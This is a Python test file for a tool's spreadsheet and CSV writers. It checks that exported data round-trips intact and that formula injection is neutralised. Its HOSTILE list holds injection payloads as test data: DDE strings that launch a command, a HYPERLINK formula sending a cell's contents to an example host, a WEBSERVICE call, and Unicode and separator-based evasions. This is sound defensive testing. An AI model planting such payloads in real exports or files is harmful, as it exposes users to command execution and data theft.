"""What is written comes back as it was, and nothing that anybody typed is ever worked out by a spreadsheet program."""

from __future__ import annotations

from datetime import UTC, date, datetime
from io import BytesIO
from zipfile import ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from rjdesk.domain.sheet import Cell
from rjdesk.sheets.cells import UNSEEN, trimmed
from rjdesk.sheets.formulas import BEGINS, harmless, looks_like_a_formula
from rjdesk.sheets.reading import read_sheet
from rjdesk.sheets.writing import separated, workbook

NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "−1",
    '"=1+1"',
    "Smith;=1+1",
    "Smith, =1+1",
    "Smith\n=1+1",
    'x",=1+1,"',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?leak="&A1,"Click")',
    '=WEBSERVICE("http://example.org")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip

plain_text = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Co", "Cn")), max_size=30).map(
    trimmed
)
days = st.dates(date(1900, 3, 1), date(2200, 1, 1))
tables = st.integers(2, 5).flatmap(
    lambda width: st.lists(
        st.lists(st.one_of(plain_text, days), min_size=width, max_size=width), min_size=1, max_size=8
    )
)


def _full(rows: list[list[Cell]]) -> list[list[Cell]]:
    return [["first", "second", *map(str, range(len(rows[0]) - 2))], *(["x", *row[1:]] for row in rows)]


@settings(max_examples=60, deadline=None)
@given(tables)
def test_a_workbook_comes_back_as_it_was(rows: list[list[Cell]]) -> None:
    rows = _full(rows)
    found = read_sheet(workbook(rows, "Cases", NOW))
    assert [list(row.cells) for row in found.rows] == rows


@settings(max_examples=150, deadline=None)
@given(tables)
def test_separated_text_comes_back_as_it_was_but_for_the_marks(rows: list[list[Cell]]) -> None:
    rows = _full(rows)
    found = read_sheet(separated(rows))
    as_written = [
        [cell.isoformat() if isinstance(cell, date) else trimmed(harmless(cell)) for cell in row] for row in rows
    ]
    assert [list(row.cells) for row in found.rows] == as_written
    assert (found.encoding, found.separator) == ("UTF-8", ",")


@settings(max_examples=500, deadline=None)
@given(st.text(st.characters(codec="utf-8"), max_size=12) | st.text(" \t\r\n'\";,=+-@a", max_size=8))
def test_nothing_harmless_begins_like_a_formula_whatever_separates_its_cells(text: str) -> None:
    made = harmless(text)
    pieces = (piece.strip('" ') for separator in ",;|\t\n\r" for piece in made.split(separator))
    assert not [piece for piece in pieces if piece.startswith(tuple(BEGINS.replace("\\", "")))]
    assert not looks_like_a_formula(made)
    assert harmless(made) == made


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_in_separated_text_is_marked_as_text(text: str) -> None:
    assert looks_like_a_formula(text)
    made = separated([["Name", "Reference"], [text, "YJ-1"]])
    cell = str(read_sheet(made).rows[1].cells[0])
    assert not looks_like_a_formula(cell)
    assert cell.replace("'", "").split() == text.translate(UNSEEN).replace("'", "").split()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_in_a_workbook_is_a_text(text: str) -> None:
    made = workbook([["Name"], [text]], "Cases", NOW)
    with ZipFile(BytesIO(made)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "hyperlink" not in sheet.casefold()
        assert 'quotePrefix="1"' in package.read("xl/styles.xml").decode()
    with CalamineWorkbook.from_filelike(BytesIO(made)) as book:
        read = book.get_sheet_by_index(0).to_python()[1][0]
    assert str(read).replace("\r\n", "\n").strip() == text.replace("\r\n", "\n").strip()


@pytest.mark.parametrize("text", ["Tāne Parata", "O'Brien-Smith", "YJ-2026/14", "a = b", "1,5", "", "– none –"])
def test_what_everybody_writes_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_a_text_longer_than_a_cell_is_cut_and_not_lost() -> None:
    made = workbook([["Name"], ["a" * 40_000]], "Cases", NOW)
    assert len(str(read_sheet(made).rows[1].cells[0])) == 32_767


def test_a_day_before_workbooks_begin_is_written_as_text() -> None:
    made = workbook([["Born"], [date(1899, 12, 31)]], "Cases", NOW)
    assert read_sheet(made).rows[1].cells == ("1899-12-31",)


def test_the_same_rows_give_the_same_bytes() -> None:
    rows = [["Name"], ["Tāne"]]
    assert workbook(rows, "Cases", NOW) == workbook(rows, "Cases", NOW)
